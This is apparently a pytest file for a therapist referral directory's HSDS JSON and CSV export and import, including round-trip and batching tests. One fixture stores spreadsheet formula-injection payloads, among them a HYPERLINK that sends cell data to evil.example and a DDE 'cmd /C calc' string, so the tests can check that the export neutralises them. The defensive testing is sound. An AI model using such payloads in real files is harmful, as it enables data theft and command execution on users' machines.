from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator
from sqlalchemy import select
from sqlalchemy.orm import Session

from referral import export, migrate
from referral.db import get_session, make_engine
from referral.geo import postcodes
from referral.importer import COLUMNS, import_csv
from referral.models import HealthFund, Location, Practitioner, PractitionerFund

SCHEMA = json.loads(
    (Path(__file__).parent / "data" / "hsds-3.0" / "service_with_definitions.json").read_text(
        encoding="utf-8"
    )
)


def _validator(definition: str | None = None) -> Draft202012Validator:
    schema = (
        dict(SCHEMA)
        if definition is None
        else {
            "$ref": f"#/definitions/{definition}",
            "definitions": SCHEMA["definitions"],
        }
    )
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


def _assert_valid(item: dict, definition: str | None) -> None:
    errors = [f"{list(e.path)}: {e.message}" for e in _validator(definition).iter_errors(item)]
    assert errors == []


@pytest.fixture
def directory(session, add_practitioner):
    bupa = session.scalars(select(HealthFund).where(HealthFund.slug == "bupa")).one()
    ana = add_practitioner(
        "Ana Lima",
        (-33.8688, 151.2093),
        (-33.8840, 151.2120),
        modalities=("remedial-massage", "myotherapy"),
        conditions=("low-back-pain",),
        business_name="Harbour Massage",
        phone="02 9123 4567",
        email="ana@example.com",
        website="https://ana.example.com",
        accreditation_body="Massage & Myotherapy Australia",
        membership_number="M-1",
        languages=["English", "Portuguese"],
        funds=[PractitionerFund(fund=bupa, provider_number="123456A")],
        external_id="m-001",
    )
    ana.locations[0].opening_hours = {"mon": [["09:00", "17:00"]]}
    ana.locations[0].postcode = "2000"
    ben = add_practitioner("Ben Ode", (-33.8150, 151.0010), modalities=("physiotherapy",))
    hidden = add_practitioner("Pat Pending", (-33.87, 151.21), status="pending")
    session.commit()
    return {"ana": ana, "ben": ben, "hidden": hidden}


def test_hsds_document_validates_against_the_hsds_3_schemas(session, directory):
    doc = export.hsds_document(session, base_url="https://clinic.example/find-a-therapist")
    assert len(doc["organizations"]) == len(doc["services"]) == 2
    for organization in doc["organizations"]:
        _assert_valid(organization, "organization")
    for service in doc["services"]:
        _assert_valid(service, None)  # the whole service schema, nested objects included
    for location in doc["locations"]:
        _assert_valid(location, "location")
    for link in doc["service_at_locations"]:
        _assert_valid(link, "service_at_location")
    for term in doc["taxonomy_terms"]:
        _assert_valid(term, "taxonomy_term")
    for taxonomy in doc["taxonomies"]:
        _assert_valid(taxonomy, "taxonomy")


def test_hsds_content_maps_listings(session, directory):
    doc = export.hsds_document(session, base_url="https://clinic.example/find-a-therapist")
    ana = directory["ana"]
    service = next(s for s in doc["services"] if s["name"].startswith("Ana Lima"))
    assert service["url"] == f"https://clinic.example/find-a-therapist/practitioners/{ana.id}"
    assert service["accreditations"] == "Massage & Myotherapy Australia M-1"
    codes = {a["taxonomy_term"]["code"] for a in service["attributes"]}
    assert codes == {"remedial-massage", "myotherapy", "low-back-pain"}
    sal = service["service_at_locations"]
    assert [(s["location"]["latitude"], s["location"]["longitude"]) for s in sal] == [
        (-33.8688, 151.2093),
        (-33.8840, 151.2120),
    ]
    assert sal[0]["location"]["schedules"][0] | {"id": None} == {
        "id": None,
        "location_id": sal[0]["location_id"],
        "freq": "WEEKLY",
        "wkst": "MO",
        "byday": "MO",
        "opens_at": "09:00",
        "closes_at": "17:00",
    }
    assert {lang["name"] for lang in service["languages"]} == {"English", "Portuguese"}
    ids = [o["id"] for o in doc["organizations"] + doc["services"] + doc["locations"]]
    ids += [
        ph["id"] for item in doc["organizations"] + doc["services"] for ph in item.get("phones", [])
    ]
    assert len(ids) == len(set(ids))  # identifiers are unique across the document
    text = json.dumps(doc)
    assert "Pat Pending" not in text  # only active listings
    assert "ana@example.com" not in text  # contact emails are not published
    # identifiers are stable from one export to the next
    assert (
        export.hsds_document(session, base_url=None)["services"][0]["id"]
        == doc["services"][0]["id"]
    )


def test_hsds_api_endpoint(client, directory):
    response = client.get("/find-a-therapist/api/v1/export/hsds.json")
    assert response.status_code == 200 and response.is_json
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    doc = response.get_json()
    assert {o["name"] for o in doc["organizations"]} == {"Harbour Massage", "Ben Ode"}
    assert doc["services"][0]["url"].startswith("http://localhost/find-a-therapist/practitioners/")


def test_export_command_writes_hsds_to_stdout_or_a_file(runner, directory, tmp_path):
    result = runner.invoke(args=["referral", "export", "--format", "hsds"])
    assert result.exit_code == 0, result.output
    assert len(json.loads(result.stdout)["services"]) == 2
    out = tmp_path / "hsds.json"
    result = runner.invoke(args=["referral", "export", "--output", str(out)])
    assert result.exit_code == 0 and json.loads(out.read_text())["hsds_version"] == "3.0"


def test_csv_export_uses_the_import_columns(runner, directory):
    result = runner.invoke(args=["referral", "export", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert tuple(rows[0]) == COLUMNS
    ana = [r for r in rows if r["external_id"] == "m-001"]
    assert len(ana) == 2 and ana[0]["funds"] == "bupa:123456A"
    assert ana[0]["modalities"] == "myotherapy;remedial-massage"
    ben = next(r for r in rows if r["name"] == "Ben Ode")
    assert ben["external_id"] == f"referral-{directory['ben'].id}"
    assert all(r["name"] != "Pat Pending" for r in rows)


def test_csv_export_then_import_changes_nothing(app, runner, session, directory, tmp_path):
    out = tmp_path / "directory.csv"
    assert (
        runner.invoke(
            args=["referral", "export", "--format", "csv", "--output", str(out)]
        ).exit_code
        == 0
    )
    before = {p.id: (p.updated_at, p.external_id) for p in session.scalars(select(Practitioner))}
    report = import_csv(session, out.read_bytes(), app.config)
    assert (report.created, report.updated, report.unchanged, report.errors) == (0, 0, 2, [])
    result = runner.invoke(args=["referral", "import", str(out)])
    assert result.exit_code == 0 and "0 created, 0 updated, 2 unchanged" in result.output
    session.expire_all()
    assert {
        p.id: (p.updated_at, p.external_id) for p in session.scalars(select(Practitioner))
    } == before


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_NAME = '=SUM(A1:A9)&" Eve"'


@pytest.fixture
def formulas(session, add_practitioner):
    """Listings whose text a spreadsheet would run, stored exactly as typed."""
    eve = add_practitioner(
        HYPERLINK, (-33.8688, -151.2093), external_id="m-eve", phone="+61 2 9123 4567"
    )
    eve.locations[0].suburb = "-2+3"
    eve.locations[0].street = "@SUM(1+1)*cmd|' /C calc'!A0"
    eve.locations[0].state = "'=already quoted"
    add_practitioner("Quinn 'Q' Lee", (-33.9, 151.1), external_id="'plain", phone="+61291234567")
    session.commit()
    return eve


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(runner, session, formulas):
    result = runner.invoke(args=["referral", "export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = {r["external_id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    eve = rows["m-eve"]
    assert eve["name"] == "'" + HYPERLINK
    assert eve["suburb"] == "'-2+3"
    assert eve["street"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert eve["phone"] == "'+61 2 9123 4567"
    assert eve["state"] == "''=already quoted"  # escaped once more, so import restores it
    # plain numbers run nothing and stay numbers; text starting with ' is left as it is
    assert (eve["lat"], eve["lon"]) == ("-33.8688", "-151.2093")
    assert rows["'plain"]["phone"] == "+61291234567"
    assert rows["'plain"]["name"] == "Quinn 'Q' Lee"
    # the database keeps what was typed
    session.expire_all()
    stored = session.get(Practitioner, formulas.id)
    assert (stored.name, stored.locations[0].suburb) == (HYPERLINK, "-2+3")


def test_neutralised_csv_imports_back_as_typed(app, runner, session, formulas, tmp_path):
    # the importer refuses a name holding a web address, so this one's formula has none
    formulas.name = FORMULA_NAME
    session.commit()
    out = tmp_path / "directory.csv"
    result = runner.invoke(args=["referral", "export", "--format", "csv", "--output", str(out)])
    assert result.exit_code == 0, result.output
    report = import_csv(session, out.read_bytes(), app.config)
    assert (report.created, report.updated, report.unchanged, report.errors) == (0, 0, 2, [])
    # into an empty directory, the same file makes the same listings
    for practitioner in session.scalars(select(Practitioner)):
        session.delete(practitioner)
    session.commit()
    report = import_csv(session, out.read_bytes(), app.config)
    assert (report.created, report.errors) == (2, [])
    eve = session.scalars(select(Practitioner).where(Practitioner.external_id == "m-eve")).one()
    assert (eve.name, eve.phone) == (FORMULA_NAME, "+61 2 9123 4567")
    place = eve.locations[0]
    assert (place.suburb, place.street, place.state, place.lat, place.lon) == (
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'=already quoted",
        -33.8688,
        -151.2093,
    )
    assert (
        session.scalars(
            select(Practitioner.external_id).where(Practitioner.name == "Quinn 'Q' Lee")
        ).one()
        == "'plain"
    )


# --- a whole listing, round trip -------------------------------------------------------

#: what the CSV does not carry: ids, the account, moderation and timestamps
NOT_IN_CSV = {
    "id",
    "user_id",
    "status_reason",
    "verified_by",
    "verified_at",
    "created_at",
    "updated_at",
    "practitioner_id",
}


def _columns(model) -> list[str]:
    return [c.key for c in model.__table__.columns if c.key not in NOT_IN_CSV]


def _records(session) -> list[dict]:
    """Every listing as the database holds it, field by field: a column added to the
    models and not carried by the CSV makes the round trip below fail."""
    session.expire_all()
    return [
        {
            **{key: getattr(p, key) for key in _columns(Practitioner)},
            "modalities": sorted(m.slug for m in p.modalities),
            "conditions": sorted(c.slug for c in p.conditions),
            "funds": sorted((pf.fund.slug, pf.provider_number) for pf in p.funds),
            "language_codes": [row.code for row in p.language_codes],
            "locations": [
                {key: getattr(loc, key) for key in _columns(Location)} for loc in p.locations
            ],
        }
        for p in session.scalars(select(Practitioner).order_by(Practitioner.external_id))
    ]


@pytest.fixture
def rich(session, add_practitioner):
    """A listing with every field filled, as an operator or the editor would leave it."""
    funds = {f.slug: f for f in session.scalars(select(HealthFund))}
    cleo = add_practitioner(
        "Cleo Park",
        (-33.8976, 151.1793),
        (-33.8840, 151.2120),
        modalities=("physiotherapy", "remedial-massage", "pilates"),
        conditions=("low-back-pain", "sciatica", "pregnancy"),
        external_id="m-rich",
        business_name="Park Physio & Pilates",
        bio='- Twenty years in practice, "hands-on".\nHome visits in the inner west.\n\n'
        "Zoë speaks Korean.",
        email="cleo@example.com",
        phone="+61 2 9555 0101",
        website="https://park.example.com/book?x=1",
        accreditation_body="Australian Physiotherapy Association",
        membership_number="APA-4471",
        languages=["English", "Korean", "Auslan"],
        capacity_status="waitlist",
        waitlist_weeks=3,
        weekly_referral_cap=8,
        capacity_confirmed_at=datetime(2026, 11, 20, 4, 30, 15, 120000),
        booking_url="https://cal.com/cleo-park/first-visit",
        telehealth=True,
        home_visits=True,
        funds=[
            PractitionerFund(fund=funds["bupa"], provider_number="123456A"),
            PractitionerFund(fund=funds["hcf"]),
            PractitionerFund(fund=funds["teachers-health"], provider_number="TH-9 01"),
        ],
    )
    first, second = cleo.locations
    first.name, first.street, first.postcode, first.state = (
        "Newtown rooms",
        "12 King St",
        "2042",
        "NSW",
    )
    first.home_visit_radius_km = 12.5
    first.opening_hours = {
        "mon": [["09:00", "17:00"]],
        "tue": [["09:00", "17:00"]],
        "thu": [["07:30", "12:00"], ["13:00", "19:00"]],
        "sat": [["09:00", "12:30"]],
    }
    second.suburb, second.postcode, second.state = "Surry Hills", "2010", "NSW"
    add_practitioner(
        "Ben Ode", (-33.8150, 151.0010), modalities=("physiotherapy",), external_id="m-ben"
    )
    session.commit()
    return cleo


def _export(runner, path):
    result = runner.invoke(args=["referral", "export", "--format", "csv", "--output", str(path)])
    assert result.exit_code == 0, result.output
    return path.read_bytes()


@pytest.fixture
def fresh_app(make_app, tmp_path):
    """An app on a brand-new SQLite database, migrated and seeded like the test ones."""
    url = f"sqlite:///{tmp_path / 'fresh.sqlite'}"
    engine = make_engine(url)
    migrate.upgrade(engine)
    with Session(engine) as seed:
        migrate.sync_taxonomy(seed, make_app().config)
        with (Path(__file__).parent / "data" / "geonames_sample.txt").open(encoding="utf-8") as f:
            postcodes.load_centroids(seed, postcodes.parse_geonames(f), source="test")
    engine.dispose()
    return make_app(REFERRAL_DATABASE_URL=url)


def test_a_whole_listing_round_trips_through_a_fresh_database(
    app, runner, session, rich, fresh_app, tmp_path
):
    first = _export(runner, tmp_path / "first.csv")
    before = _records(session)
    assert before[1]["locations"][0]["opening_hours"]["thu"] == [
        ["07:30", "12:00"],
        ["13:00", "19:00"],
    ]
    with fresh_app.app_context():
        fresh = get_session()
        report = import_csv(fresh, first, fresh_app.config)
        assert (report.created, report.errors) == (2, [])
        second = _export(fresh_app.test_cli_runner(), tmp_path / "second.csv")
        assert second == first
        assert _records(fresh) == before
        # and again: nothing changes
        again = import_csv(fresh, second, fresh_app.config)
        assert (again.unchanged, again.updated, again.created) == (2, 0, 0)


def test_a_whole_listing_round_trips_through_an_emptied_directory(
    app, runner, session, rich, tmp_path
):
    first = _export(runner, tmp_path / "first.csv")
    before = _records(session)
    assert import_csv(session, first, app.config).unchanged == 2
    for practitioner in session.scalars(select(Practitioner)):
        session.delete(practitioner)
    session.commit()
    report = import_csv(session, first, app.config)
    assert (report.created, report.errors) == (2, [])
    assert _export(runner, tmp_path / "second.csv") == first
    assert _records(session) == before


def test_csv_export_reads_the_directory_in_batches(session, add_practitioner):
    """The export never holds the whole directory: each batch is let go once written."""
    import gc
    import weakref

    for n in range(30):
        add_practitioner(f"Batch {n}", (-33.8 - n / 1000, 151.2))
    alive: list[weakref.ref] = []
    most = 0
    for n, p in enumerate(export.iter_active_practitioners(session, batch_size=7)):
        alive.append(weakref.ref(p))
        if n % 7 == 6:
            gc.collect()
            most = max(most, sum(ref() is not None for ref in alive))
    assert len(alive) == 30
    assert 0 < most <= 8  # one batch (and the listing in hand), never all 30
    assert p.locations[0].lat == pytest.approx(-33.829)  # what was loaded stays readable


def test_association_membership_list_imports_cleanly_and_reimports_unchanged(runner, session):
    """tests/data/association_members.csv is written as an association writes it: Excel's
    byte-order mark and CRLF, capitalised modality names, ``Bupa; Medibank; HCF``,
    ``English, Greek``, ``Yes``/``No`` and blank optional cells, no coordinates."""
    path = Path(__file__).parent / "data" / "association_members.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbfexternal_id,")
    result = runner.invoke(args=["referral", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert "6 created, 0 updated, 0 unchanged, 0 rejected" in result.output
    helen = session.scalars(
        select(Practitioner).where(Practitioner.external_id == "MMA-10231")
    ).one()
    assert [m.slug for m in helen.modalities] == ["myotherapy", "remedial-massage"]
    assert {f.fund.slug for f in helen.funds} == {"bupa", "medibank", "hcf"}
    assert [c.slug for c in helen.conditions] == ["headache", "low-back-pain", "neck-pain"]
    assert (
        helen.languages == ["English", "Greek"]
        and helen.website == "https://harbourmassage.example"
    )
    assert [loc.suburb for loc in helen.locations] == ["Sydney", "Surry Hills"]
    assert helen.locations[0].opening_hours["fri"] == [["09:00", "18:00"]]
    grace = session.scalars(
        select(Practitioner).where(Practitioner.external_id == "MMA-11345")
    ).one()
    assert {f.fund.slug: f.provider_number for f in grace.funds} == {
        "bupa": "4471852B",
        "medibank": "MB-99812",
        "hcf": None,
    }
    assert (grace.home_visits, grace.locations[0].home_visit_radius_km) == (True, 25.0)
    aroha = session.scalars(
        select(Practitioner).where(Practitioner.external_id == "MMA-12004")
    ).one()
    assert (aroha.accepting_new_patients, aroha.telehealth, aroha.bio, aroha.languages) == (
        True,
        False,
        "",
        [],
    )
    again = runner.invoke(args=["referral", "import", str(path)])
    assert again.exit_code == 0, again.output
    assert "0 created, 0 updated, 6 unchanged, 0 rejected" in again.output
